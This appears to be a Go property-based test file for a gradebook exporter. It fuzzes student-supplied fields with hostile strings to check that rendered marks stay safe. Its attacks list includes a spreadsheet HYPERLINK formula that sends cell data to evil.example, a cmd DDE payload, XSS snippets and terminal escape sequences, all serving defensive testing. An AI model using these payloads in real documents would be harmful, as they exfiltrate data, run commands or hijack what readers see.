package gradebook

import (
	"fmt"
	"math"
	"strings"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"

	"httpscope/internal/course/coursework"
)

// attacks are what students could write to harm who reads their marks.
var attacks = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
	"\r=1+1", "＝1+1", "＋1", "－1", "＠x", " =1+1", "\n=1+1", "\u00a0=1",
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</style><style>*{display:none}", "]]>", "<!--",
	"javascript:alert(1)", "</pre></table><h1>", "{{.}}",
	"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x00", "\xff\xfe", "\xc3", "a\u202eb", "\u2028", "\ufeff", "\u009b31m",
	`a\`, `\"`, `"`, `""`, `","`, `\",9,"`, ";", "a;b", "a\tb", "two\nlines", "two\r\nlines", "\r", "", " ", "'",
	"Points Possible", "Muted", "-", "-5", "+5", "1e9", "0", "EX", "Ünïcode 简体",
}

func hostile() *rapid.Generator[string] {
	return rapid.Custom(func(t *rapid.T) string {
		parts := rapid.SliceOfN(rapid.OneOf(rapid.SampledFrom(attacks), rapid.String(),
			rapid.Map(rapid.SliceOfN(rapid.Byte(), 0, 6), func(b []byte) string { return string(b) })), 0, 3).Draw(t,
			"parts")
		return strings.Join(parts, "")
	})
}

func number64() *rapid.Generator[float64] {
	return rapid.OneOf(rapid.Float64Range(0, 120), rapid.Float64Range(-5, 5),
		rapid.SampledFrom([]float64{0, 1, 2.5, 1.0 / 3, math.NaN(), math.Inf(1), math.Inf(-1), 1e300,
			math.Copysign(0, -1)}))
}

func drawMarked(t *rapid.T) coursework.Marked {
	s, list := hostile(), rapid.SliceOfN(hostile(), 0, 2)
	verdict := rapid.SampledFrom([]coursework.Verdict{coursework.Right, coursework.Partly, coursework.Wrong,
		coursework.Missing, coursework.Person, "\x1b[1m"})
	m := coursework.Marked{
		ID: rapid.SampledFrom([]string{"1", "2.1", "q", "<b>", "\x00"}).Draw(t, "id"), Kind: s.Draw(t, "kind"),
		Prompt: s.Draw(t, "prompt"), Verdict: verdict.Draw(t, "verdict"),
		Points: number64().Draw(t, "points"), Max: number64().Draw(t, "max"), Given: s.Draw(t, "given"),
		Expected: s.Draw(t, "expected"),
		Feedback: list.Draw(t, "feedback"), Hints: list.Draw(t, "hints"), Tags: list.Draw(t, "tags"),
	}
	for range rapid.IntRange(0, 2).Draw(t, "cells") {
		m.Cells = append(m.Cells, coursework.Cell{Row: rapid.IntRange(0, 3).Draw(t, "row"),
			Column: s.Draw(t, "column"), Given: s.Draw(t, "given"),
			Expected: s.Draw(t, "expected"), Verdict: verdict.Draw(t, "verdict"), Tag: s.Draw(t, "tag"),
			Comment: s.Draw(t, "comment")})
		m.Proof = append(m.Proof, coursework.Proof{Frame: rapid.Int64().Draw(t, "frame"), Text: s.Draw(t, "proof")})
	}
	return m
}

func drawReport(t *rapid.T) *coursework.Report {
	s := hostile()
	r := &coursework.Report{
		Assignment: s.Draw(t, "assignment"), Title: s.Draw(t, "title"), Student: s.Draw(t, "student"),
		Score: number64().Draw(t, "score"), Max: number64().Draw(t, "max"), Open: number64().Draw(t, "open"),
		Questions: rapid.SliceOfN(rapid.Custom(drawMarked), 0, 4).Draw(t, "questions"),
	}
	if rapid.IntRange(0, 4).Draw(t, "problem") == 0 {
		r.Problem = "It cannot be read: " + s.Draw(t, "why")
	}
	for range rapid.IntRange(0, 2).Draw(t, "remarks") {
		r.Remarks = append(r.Remarks, coursework.Remark{Code: s.Draw(t, "code"), Severity: s.Draw(t, "severity"),
			Text: s.Draw(t, "remark")})
	}
	return r
}

func drawStudent(t *rapid.T) *Student {
	s := hostile()
	return &Student{Name: s.Draw(t, "name"), First: s.Draw(t, "first"), Last: s.Draw(t, "last"), ID: s.Draw(t, "id"),
		SISUser: s.Draw(t, "sis"), Login: s.Draw(t, "login"),
		Email: s.Draw(t, "email"), Section: s.Draw(t, "section"), Integration: s.Draw(t, "integration"),
		RootAccount: s.Draw(t, "root")}
}

func drawClass(t *rapid.T) Class {
	s := hostile()
	c := Class{Assignment: s.Draw(t, "assignment"), Title: s.Draw(t, "title"), Marked: markedAt}
	for range rapid.IntRange(0, 5).Draw(t, "entries") {
		e := Entry{Submission: s.Draw(t, "submission")}
		if rapid.IntRange(0, 5).Draw(t, "known") > 0 {
			e.Student = drawStudent(t)
		}
		if rapid.IntRange(0, 5).Draw(t, "marked") > 0 {
			e.Report = drawReport(t)
		}
		c.Entries = append(c.Entries, e)
	}
	for range rapid.IntRange(0, 2).Draw(t, "groups") {
		c.Groups = append(c.Groups, Group{rapid.SliceOfN(s, 0, 3).Draw(t, "submissions"), s.Draw(t, "why")})
	}
	return c
}

// unseen names the first character of s that a reader would not see, but for line ends.
func unseen(s string) string {
	if !utf8.ValidString(s) {
		return "bytes that are not UTF-8"
	}
	for _, r := range s {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) && r != 0xad &&
			unicode.Is(unicode.Bidi_Control, r) || r == 0xfeff || r == 0x2028) {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}
